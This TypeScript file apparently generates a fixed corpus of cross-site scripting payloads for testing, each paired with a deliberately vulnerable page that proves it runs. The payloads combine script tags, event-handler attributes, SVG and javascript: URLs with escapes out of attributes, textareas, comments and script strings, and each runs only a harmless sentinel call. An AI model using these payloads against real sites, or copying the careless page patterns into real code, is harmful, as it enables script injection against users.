/** A text that tries to run as code, and a careless page in which it does: the proof that it works. */
export type Payload = {
  /** The number that it reports when it runs. */
  readonly id: number;
  readonly text: string;
  readonly carelessPage: string;
};

/** Markup that runs `code` without a visitor's help; `code` has no quotes and no spaces. */
const markup: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT >`,
  (code) => `<script src=data:text/javascript,${code}></script>`,
  (code) => `<img src=/sentinel onerror=${code}>`,
  (code) => `<IMG SRC='/sentinel' ONERROR='${code}'>`,
  (code) => `<img\nsrc=/sentinel\nonerror\n=\n${code}>`,
  (code) => `<img src=/sentinel onerror="&#x65;val(&quot;${code}&quot;)">`,
  (code) => `<svg/onload=${code}>`,
  (code) => `<svg><script href=data:text/javascript,${code} /></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  (code) => `<math><mtext><img src=/sentinel onerror=${code}></mtext></math>`,
  (code) => `<details open ontoggle=${code}>x</details>`,
  (code) => `<video><source src=/sentinel onerror=${code}></video>`,
  (code) => `<style onload=${code}></style>`,
  (code) => `<iframe src=javascript:parent.${code}></iframe>`,
  (code) => `<iframe srcdoc="&lt;script>parent.${code}&lt;/script>"></iframe>`,
];

/** What lets markup escape from where a careless page writes it, and what that page has before it. */
const escapes: readonly (readonly [escape: string, before: string])[] = [
  ['', '<p>'],
  ['">', '<input value="'],
  ["'>", "<input value='"],
  ['</textarea>', '<textarea>'],
  ['</title>', '<title>'],
  ['-->', '<!-- '],
  ['</script>', '<script>let a="'],
  ['"}</script>', '<script type="application/json">{"a":"'],
];

/** Code that escapes from a script or is one as an address, with what a careless page has around it. */
const code: readonly ((call: string) => readonly [text: string, before: string, after: string])[] = [
  (call) => [`";${call};"`, '<script>let a="', '"</script>'],
  (call) => [`\${${call}}`, '<script>let a=`', '`</script>'],
  (call) => [`{"__proto__":${call}}`, '<script>let a=', '</script>'],
  (call) => [`');${call};('`, `<img src=/sentinel onerror="String('`, `')">`],
  (call) => [`javascript:parent.${call}`, '<iframe src="', '"></iframe>'],
  (call) => [`\u0001 jAvA\tScRiPt\n:parent.${call}`, '<iframe src="', '"></iframe>'],
  (call) => [`javascript:${call};void(0)`, '<a href="', '">x</a><script>document.links[0].click()</script>'],
  (call) => [`javascript:${call};void(1)`, '<form action="', '"></form><script>document.forms[0].submit()</script>'],
];

const texts = [
  ...markup.flatMap((attack) =>
    escapes.map(
      ([way, before]) =>
        (call: string) =>
          [way + attack(call), before, ''] as const,
    ),
  ),
  ...code,
];

/** The payloads, the same in each run. */
export const payloads: readonly Payload[] = texts.map((build, index) => {
  const id = index + 1;
  const [text, before, after] = build(`ran(${id})`);
  const carelessPage = `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>${before}${text}${after}</body></html>`;
  return { id, text, carelessPage };
});
